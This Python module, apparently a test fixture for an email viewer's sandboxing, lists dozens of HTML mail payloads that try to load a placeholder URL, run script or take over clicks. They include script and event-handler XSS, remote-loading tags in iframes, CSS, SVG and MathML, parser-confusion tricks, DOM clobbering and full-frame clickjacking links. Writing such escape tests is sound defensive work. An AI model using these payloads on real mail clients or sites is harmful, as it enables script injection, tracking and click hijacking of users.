"""Mails that try to leave their frame: each piece calls `{url}`, runs a script, or reaches for the page."""

from __future__ import annotations

from typing import Final

_SCRIPT: Final = "top.document.title='owned';fetch('{url}')"

#: What a browser would do by itself, by what it is; the pieces of one mail do not disturb each other.
STILL: Final[dict[str, str]] = {
    "script": f"<script>{_SCRIPT}</script>",
    "script of another host": "<script src='{url}'></script>",
    "module": "<script type=module src='{url}'></script>",
    "speculation rules": '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{url}"]}}]}}</script>',  # noqa: E501 - one piece
    "image": "<img src='{url}'>",
    "image with a handler": f'<img src=x onerror="{_SCRIPT}">',
    "image for several widths": "<img srcset='{url} 1x, {url}2 2x'>",
    "picture": "<picture><source srcset='{url}'><img alt=''></picture>",
    "attribution": "<img src='{url}' attributionsrc='{url}'>",
    "frame": "<iframe src='{url}'></iframe>",
    "frame with a document": "<iframe srcdoc=\"<img src='{url}'><script>1</script>\"></iframe>",
    "frame with data": "<iframe src=\"data:text/html,<img src='{url}'>\"></iframe>",
    "frame, spelled otherwise": "<IFRAME\tsrc={url}></IFRAME><iframe/src={url}></iframe><iframe\nsrc={url}></iframe>",  # noqa: E501 - one piece
    "frame after a broken tag": "<a title='>\"><iframe src='{url}'></iframe>",
    "object": "<object data='{url}'></object>",
    "embedded": "<embed src='{url}'>",
    "applet": "<applet code='{url}' archive='{url}'></applet>",
    "portal": "<portal src='{url}'></portal><fencedframe src='{url}'></fencedframe>",
    "style sheet": "<link rel=stylesheet href='{url}'>",
    "connection ahead": "<link rel=preconnect href='{url}'><link rel=dns-prefetch href='{url}'>",
    "request ahead": (
        "<link rel=prefetch href='{url}'><link rel=preload as=image href='{url}'>"
        "<link rel=modulepreload href='{url}'><link rel=prerender href='{url}'>"
    ),
    "icon": "<link rel=icon href='{url}'><link rel=manifest href='{url}'>",
    "link within a picture": "<svg><link xmlns='http://www.w3.org/1999/xhtml' rel=preconnect href='{url}'/></svg>",  # noqa: E501 - one piece
    "refresh": "<meta http-equiv=refresh content='0;url={url}'>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "base": "<base href='{url}/'><img src=a>",
    "import": "<style>@import url({url});</style>",
    "background": "<div style='background:url({url})'>x</div>",
    "image set": "<div style='background:image-set(url({url}) 1x)'>x</div>",
    "font": "<style>@font-face{{font-family:f;src:url({url})}}p{{font-family:f}}</style><p>x</p>",
    "cursor": "<style>*{{cursor:url({url}),auto}}</style>",
    "video": "<video src='{url}' poster='{url}' autoplay></video>",
    "sound": "<audio src='{url}' autoplay></audio>",
    "subtitles": "<video><track src='{url}' default></video>",
    "form": f"<form action='{{url}}' onfocusin=\"{_SCRIPT}\"><input autofocus></form>",
    "image button": "<input type=image src='{url}'>",
    "vector image": "<svg><image href='{url}'/><image xlink:href='{url}'/></svg>",
    "vector use": "<svg><use href='{url}#a'/></svg>",
    "vector filter": "<svg><filter id=f><feImage href='{url}'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",  # noqa: E501 - one piece
    "vector script": f"<svg onload=\"{_SCRIPT}\"><script>{_SCRIPT}</script><script href='{{url}}'></script></svg>",  # noqa: E501 - one piece
    "vector animation": "<svg><a><animate attributeName=href values='{url}'/><text>x</text></a></svg>",
    "foreign object": "<svg><foreignObject><iframe src='{url}'></iframe></foreignObject></svg>",
    "formula": "<math href='{url}'><mtext><img src='{url}'></mtext></math>",
    "data image": (
        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/>'
        "<script>1</script></svg>'>"
    ),
    "inline image": "<img src='cid:logo'>",
    "template": "<template><img src='{url}'><script>1</script></template>",
    "noscript": "<noscript><img src='{url}'></noscript>",
    "details": f'<details open ontoggle="{_SCRIPT}">x</details>',
    "marquee": f'<marquee onstart="{_SCRIPT}">x</marquee>',
    "animation": f'<style>@keyframes k{{{{}}}}</style><b style="animation:k 1s" onanimationstart="{_SCRIPT}">x</b>',  # noqa: E501 - one piece
    "ping": "<a href='#' ping='{url}'>x</a>",
    "comment that ends early": "<!--><img src='{url}'>-->",
    "name of the page": "<form id=document><input name=cookie></form><img name=location>",
    "fixed over the page": "<div style='position:fixed;inset:0;z-index:99;background:#fff0'>x</div>",
    "body": f'<body background=\'{{url}}\' onload="{_SCRIPT}" onpageshow="{_SCRIPT}">',
}
#: What needs a mail of its own: it swallows or replaces what follows.
ALONE: Final[dict[str, str]] = {
    "frames": "<html><frameset><frame src='{url}'></frameset></html>",
    "manifest": "<html manifest='{url}'><body>x",
    "title": "<title></title><iframe src='{url}'></iframe>",
    "text area": "<textarea></textarea><iframe src='{url}'>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img src='{url}'>",
    "style that never ends": "<style>@import '{url}';",
    "NUL": "<if\0rame src='{url}'></if\0rame><img\0 src='{url}'>",
    "deep": "<div>" * 3000 + "<iframe src='{url}'></iframe>",
}
#: What needs a click, anywhere in the frame.
CLICKED: Final[dict[str, str]] = {
    "link": "<a style='position:fixed;inset:0;display:block' href='{url}'>x</a>",
    "link in place": "<a target=_self style='position:fixed;inset:0;display:block' href='{url}'>x</a>",
    "link in place, again": (
        "<a target=x target=_self style='position:fixed;inset:0;display:block' href='{url}'>x</a>"
    ),
    "link to the top": "<a target=_top style='position:fixed;inset:0;display:block' href='{url}'>x</a>",
    "link with a script": f"<a target=_self style='position:fixed;inset:0;display:block' href=\"javascript:{_SCRIPT}\">x</a>",  # noqa: E501 - one piece
    "button": "<form action='{url}' target=_top><button style='position:fixed;inset:0;width:100%'>x</button></form>",  # noqa: E501 - one piece
    "map": (
        "<img usemap='#m' width=600 height=400 src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAA"  # noqa: E501 - one piece
        "LAAAAAABAAEAAAIBRAA7'><map name=m><area target=_self shape=default href='{url}'></map>"
    ),
    "vector link with an animated address": (
        "<svg style='position:fixed;inset:0' width=600 height=400><a target=_self>"
        "<animate attributeName=href values='{url}' dur=1ms fill=freeze /><set attributeName=href to='{url}' />"  # noqa: E501 - one piece
        "<rect width=600 height=400 /></a></svg>"
    ),
    "formula link": "<math href='{url}'><mtext style='position:fixed;inset:0;display:block'>x</mtext></math>",
    "vector link": (
        "<svg style='position:fixed;inset:0' width=600 height=400><a href='{url}' target=_self>"
        "<rect width=600 height=400 /></a></svg>"
    ),
}


def mails(url: str) -> dict[str, str]:
    """Return the HTML of each mail, by its name: all that is still in one, the others each in its own."""
    together = "".join(f"<section>{piece}</section>" for piece in STILL.values())
    return {name: piece.format(url=url) for name, piece in {"together": together, **ALONE, **CLICKED}.items()}
